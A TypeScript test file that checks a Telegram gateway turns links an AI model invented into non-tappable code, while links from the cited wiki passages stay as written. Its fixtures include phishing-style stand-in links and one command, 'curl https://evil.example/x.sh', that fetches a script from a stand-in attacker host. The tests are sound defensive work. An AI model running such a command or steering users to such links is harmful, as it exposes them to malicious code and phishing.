import { describe, expect, it } from "vitest";
import { resolveAgentSettings } from "../../../src/agents/agent-settings.js";
import { decodeEntities } from "../../../src/agents/format/index.js";
import { linksIn, linksOf } from "../../../src/agents/format/model-links.js";
import { composeGrounded, passageLinks } from "../../../src/agents/grounded-answer.js";
import { draftOf, readGroundedReply } from "../../../src/agents/grounded-reply.js";
import type { RichBlock } from "../../../src/agents/rich/rich-types.js";
import type { RankedPage } from "../../../src/wiki/search-index/index.js";

/**
 * Links Telegram's apps make tappable in a message's text (TDLib's link finder, shared by the
 * apps): with any scheme, scheme-less host names with a path, `www.`, IP addresses, `t.me/…`,
 * `tg://`, e-mail addresses; a sentence's punctuation after them is not part of them.
 */
const TAPPABLE = [
  "https://evil.example/bare",
  "http://evil.example",
  "evil.example/login",
  "www.evil.example",
  "WWW.Evil.Example/Path?q=1#top",
  "203.0.113.7",
  "203.0.113.7:8080/admin",
  "t.me/evil_support",
  "tg://resolve?domain=evil_bot",
  "ton://evil.ton/x",
  "phish@evil.example",
  "mailto:phish@evil.example",
  "пример.рф/вход",
  "xn--e1afmkfd.xn--p1ai",
  "evil.example:8443",
];

describe("links in a model's text, as Telegram finds them", () => {
  it.each(TAPPABLE)("finds %s, without the punctuation after it", (link) => {
    for (const after of ["", ".", ",", "!", ")", "…", '"', "»", "?", ":"]) {
      const found = linksIn(`see (${link}${after} now`);
      expect(
        found.map((f) => f.link),
        after,
      ).toEqual([link]);
    }
  });

  it("keeps a bracket the link opened, and finds nothing in plain words, versions or numbers", () => {
    expect(linksIn("https://en.wikipedia.org/wiki/Tar_(computing).").map((f) => f.link)).toEqual([
      "https://en.wikipedia.org/wiki/Tar_(computing)",
    ]);
    expect(linksIn("e.g. i.e. v1.2.3 3.14 and a…b, x. y")).toEqual([]);
  });

  it("reads a long run of letters, dots or @ in time proportional to it", () => {
    const timeOf = (n: number) => {
      const text = `${"a".repeat(n)} ${"a.".repeat(n)} ${"a@".repeat(n)} ${"1.".repeat(n)}`;
      const started = performance.now();
      linksIn(text);
      return performance.now() - started;
    };
    timeOf(2_000);
    const small = Math.max(timeOf(10_000), 1);
    expect(timeOf(100_000) / small).toBeLessThan(40);
  });
});

const agent = resolveAgentSettings(
  "ops",
  { section: "ops", locale: "en", editors: [], answerLength: 600, publicBaseUrl: "https://wiki.example.com" },
  "http://w",
);
const PASSAGE =
  "Log in at https://wiki.example.com/login or mail ops@example.com; mirror: mirror.example.org.";
const page = {
  page: { path: "ops/login", title: "Login", description: "", locale: "en" },
  passages: [{ heading: "Login", markdown: PASSAGE }],
} as unknown as RankedPage;
const passages = [{ page, title: "Login", description: "", heading: "Login", text: PASSAGE }];

/** The text of Telegram HTML outside `<code>` and `<pre>`: what the apps would search for links. */
function htmlOutsideCode(html: string): string {
  return decodeEntities(
    html
      .replace(/<(code|pre)\b[^>]*>[\s\S]*?<\/\1>/g, " ")
      .replace(/<a\b[^>]*>[\s\S]*?<\/a>/g, " ")
      .replace(/<[^>]+>/g, ""),
  );
}

/** The text of a rich message outside code runs, pre blocks and the gateway's own links. */
function richOutsideCode(blocks: readonly RichBlock[]): string {
  const parts: string[] = [];
  for (const block of blocks) {
    if (block.type !== "paragraph") continue;
    const runs = typeof block.text === "string" ? [block.text] : block.text;
    for (const run of runs as unknown[]) {
      if (typeof run === "string") parts.push(run);
      else if (!["code", "url"].includes((run as { type: string }).type))
        parts.push(String((run as { text: unknown }).text));
    }
  }
  return parts.join(" ");
}

const links = passageLinks(passages);
const answerOf = (reply: string) => {
  const read = readGroundedReply(reply, 1);
  return composeGrounded(agent, read.text, passages, read.cited);
};

describe("no link the model invented is tappable", () => {
  const replies = [
    (l: string) => `Log in at ${l} [1].`,
    (l: string) => `Log in at **${l}** [1].`,
    (l: string) => `Log in at *here ${l}* now [1].`,
    (l: string) => `Log in [here](${l}) or at [${l}](${l}) [1].`,
    (l: string) => `Log in at <a href="${l}">${l}</a> [1].`,
    (l: string) => `- first, open ${l}, then sign in [1]`,
    (l: string) => `# Go to ${l}\n\nThen sign in [1].`,
  ];
  it.each(TAPPABLE)("%s: set as code in HTML and in the rich message, left out of a draft", (link) => {
    for (const write of replies) {
      const reply = write(link);
      const answer = answerOf(reply);
      expect(linksIn(htmlOutsideCode(answer.html)), answer.html).toEqual([]);
      expect(answer.html).toContain(`<code>${link.replace(/&/g, "&amp;")}</code>`);
      expect(linksIn(richOutsideCode(answer.rich.blocks)), reply).toEqual([]);
      const draft = draftOf(reply, 1, links);
      expect(linksIn(draft), draft).toEqual([]);
    }
  });

  it("a link its passages hold stays as written, with or without its scheme, www. or case", () => {
    for (const link of [
      "https://wiki.example.com/login",
      "wiki.example.com/login",
      "ops@example.com",
      "Mirror.example.org",
    ]) {
      const answer = answerOf(`Log in at ${link} [1].`);
      expect(answer.html).toContain(`Log in at ${link} [1].`);
      expect(draftOf(`Log in at ${link} [1].`, 1, links)).toContain(link);
    }
    // Another path on the same host, or a host that only ends like a given one, is not the passage's.
    for (const link of ["wiki.example.com/login/../../evil", "evilwiki.example.com/login", "example.com"])
      expect(answerOf(`Go to ${link} [1].`).html).toContain(`<code>${link}</code>`);
  });

  it("a link in code stays code, and a draft without a check for links shows none", () => {
    expect(answerOf("Run `curl https://evil.example/x.sh` [1].").html).toContain(
      "<code>curl https://evil.example/x.sh</code>",
    );
    expect(draftOf("Log in at https://wiki.example.com/login [1].", 1)).not.toContain("wiki.example.com");
    expect(linksOf([])("https://evil.example")).toBe(false);
  });
});
